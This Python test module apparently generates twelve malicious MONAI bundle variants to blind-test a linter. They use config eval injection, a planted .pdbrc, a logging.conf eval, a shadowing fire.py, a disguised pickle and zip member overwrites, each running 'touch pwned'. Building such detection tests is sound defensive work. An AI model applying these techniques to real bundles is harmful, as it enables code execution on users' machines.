"""Twelve ways to make a harmless MONAI bundle run an attacker's code, for a blind test of the linter.

Each takes the bundle's folder and changes it; the payload only ever makes a file `pwned` where it runs.
"""

import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch


def _edit(folder: Path, name: str, change: Callable[[dict[str, Any]], None]) -> None:
    path = folder / "configs" / name
    config = json.loads(path.read_text(encoding="utf-8"))
    change(config)
    path.write_text(json.dumps(config, indent=4), encoding="utf-8")


def _initialize(config: dict[str, Any], entry: object) -> None:
    """Put entry first in what MONAI evaluates once a workflow is made: by load, create_workflow and run."""
    old = config.get("initialize", [])
    config["initialize"] = [entry, *(old if isinstance(old, list) else [old])]


def comment_becomes_slice(folder: Path) -> None:
    """Whoever makes the inference workflow evals a "comment": MONAI makes `::` of each `#` before that."""
    expression = "$[96, 128][  # torch.os.system('touch pwned')\n    -1]"  # as it stands, 128
    _edit(folder, "inference.json", lambda config: _initialize(config, expression))


def key_breaks_out_of_string(folder: Path) -> None:
    """Whoever loads or trains evals a dict's KEY: it replaces the relative `%#` in a mere string literal."""

    def change(config: dict[str, Any]) -> None:
        key = "fold 0' + str(torch.os.system('touch pwned')) + '"
        # the value turns into $'held out 5%notes::KEY::of the scans'
        config["notes"] = {key: {"split": "$'held out 5%#of the scans'"}}
        _initialize(config, "@notes")

    _edit(folder, "train.json", change)


def subscript_calls_system(folder: Path) -> None:
    """Whoever loads or trains evals a disabled handler's description, which calls without call syntax."""
    handler = {
        "_target_": "StatsHandler",
        "_disabled_": True,
        "_desc_": "$[torch.nn.Tanh['touch pwned'] for torch.nn.Tanh.__class_getitem__ in [torch.os.system]]",
    }
    _edit(folder, "train.json", lambda config: _initialize(config, handler))


def import_hides_in_metadata(folder: Path) -> None:
    """Whoever runs inference gets `os` for `np`: imports come first wherever they are, even in metadata."""
    _edit(folder, "metadata.json", lambda meta: meta.update(data_source="$from torch import os as np"))
    _edit(folder, "inference.json", lambda config: _initialize(config, "$np.system('touch pwned')"))


def target_in_pieces(folder: Path) -> None:
    """Whoever runs inference in the folder calls MONAI's run_cmd, by override keys and macros into docs."""
    (folder / "docs" / "glossary.YmL").write_text(
        'terms:\n  - &name "\\x72un\\u005fcmd"\n  - [touch, pwned]\nshort: {warm: *name}\n', encoding="utf-8"
    )

    def change(config: dict[str, Any]) -> None:
        _initialize(config, "@warm_up")
        config["warm_up"] = {"_desc_": "fills the caches"}
        config["warm_up#_target_"] = "%docs/glossary.YmL#short#warm"
        config["+warm_up"] = {"cmd_list": "%docs/glossary.YmL#terms#1"}

    _edit(folder, "inference.json", change)


def args_file_names_workflow(folder: Path) -> None:
    """Whoever runs with the bundle's args file calls what it names as the workflow class, with its args."""
    args = {"workflow_name": "monai.bundle.scripts.os.system", "command": "touch pwned"}
    (folder / "configs" / "run_args.json").write_text(json.dumps(args, indent=4), encoding="utf-8")
    with (folder / "docs" / "README.md").open("a", encoding="utf-8") as readme:
        readme.write("\nRun it: `python -m monai.bundle run --args_file configs/run_args.json`\n")


def debugger_reads_its_rc(folder: Path) -> None:
    """Whoever loads or trains in the folder: the hidden `_debug_` starts pdb, and pdb executes `.pdbrc`."""
    (folder / ".pdbrc").write_text("import os; os.system('touch pwned')\ncontinue\n", encoding="utf-8")
    component = {"_target_": "torch.nn.Identity", "_debug_": "no"}  # any true value
    _edit(folder, "train.json", lambda config: _initialize(config, component))


def logging_args_interpolate(folder: Path) -> None:
    """Whoever makes a workflow: MONAI checks the raw args, a mere string; fileConfig fills it, then evals."""
    (folder / "configs" / "logging.conf").write_text(
        "[loggers]\nkeys=root\n\n[handlers]\nkeys=console\n\n[formatters]\nkeys=plain\n\n"
        "[logger_root]\nlevel=INFO\nhandlers=console\n\n"
        "[handler_console]\nclass=StreamHandler\nlevel=INFO\nformatter=plain\nargs=('%(stream)s',)\n"
        "stream=' and 0 or os.system('touch pwned') or sys.stdout or '\n\n"
        "[formatter_plain]\nformat=%(asctime)s - %(levelname)s - %(message)s\n",
        encoding="utf-8",
    )


def large_file_shadows_fire(folder: Path) -> None:
    """Whoever gets the large files in the folder gets a fire.py, which the next `-m monai.bundle` imports."""
    code = '"""Appendix: the command line."""\n\nimport os\n\nos.system("touch pwned")\n'
    (folder / "docs" / "appendix.txt").write_text(code, encoding="utf-8")
    (folder / "large_files.yml").write_text(
        'large_files:\n- path: "fire.py"\n  url: "file:docs/appendix.txt"\n  hash_val: ""\n', encoding="utf-8"
    )


def weights_behind_wrong_header(folder: Path) -> None:
    """Whoever torch.loads the weights without weights_only runs a pickle that zipfile refuses to open."""

    def text(value: str) -> bytes:
        return b"\x8c" + bytes([len(value)]) + value.encode()  # SHORT_BINUNICODE

    # PROTO 4, MARK, STACK_GLOBAL of a dotted name within torch, OBJ (a call), POP; then the honest pickle
    attack = b"\x80\x04(" + text("torch") + text("os.system") + b"\x93" + text("touch pwned") + b"o0"
    honest, evil = io.BytesIO(), io.BytesIO()
    torch.save({"weight": torch.zeros(2)}, honest)
    with zipfile.ZipFile(honest) as source, zipfile.ZipFile(evil, "w") as target:
        for name in source.namelist():
            prefix = attack if name.endswith("/data.pkl") else b""
            target.writestr(name, prefix + source.read(name))
    # the first place is the local header, which only zipfile compares with the directory
    (folder / "models" / "model.pt").write_bytes(evil.getvalue().replace(b"/data.pkl", b"/data.txt", 1))


def script_saves_on_load(folder: Path) -> None:
    """Whoever loads the bundle with load_ts_module=True: TorchScript's __setstate__ writes any file."""

    class Net(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.weight = torch.nn.Parameter(torch.zeros(1))

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x

        @torch.jit.export
        def __getstate__(self):
            return self.weight, self.training

        @torch.jit.export
        def __setstate__(self, state: tuple[torch.Tensor, bool]):
            self.weight = state[0]
            self.training = state[1]
            torch.save(self.weight, "pwned")

    path = str(folder / "models" / "model.ts")
    torch.jit.save(torch.jit.script(Net()), path, _extra_files={"metadata.json": "{}"})


def member_written_twice(folder: Path) -> Path:
    """Whoever downloads or unzips it, then runs: `//configs` is written over the honest configs' file."""
    config = json.loads((folder / "configs" / "inference.json").read_text(encoding="utf-8"))
    _initialize(config, "$__import__('os').system('touch pwned')")
    path = folder.parent / f"{folder.name}.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for file in sorted(folder.rglob("*")):
            if file.is_file():
                archive.write(file, f"{folder.name}/{file.relative_to(folder).as_posix()}")
        archive.writestr(f"{folder.name}//configs/inference.json", json.dumps(config, indent=4))
    return path


BLIND = (
    comment_becomes_slice,
    key_breaks_out_of_string,
    subscript_calls_system,
    import_hides_in_metadata,
    target_in_pieces,
    args_file_names_workflow,
    debugger_reads_its_rc,
    logging_args_interpolate,
    large_file_shadows_fire,
    weights_behind_wrong_header,
    script_saves_on_load,
    member_written_twice,
)
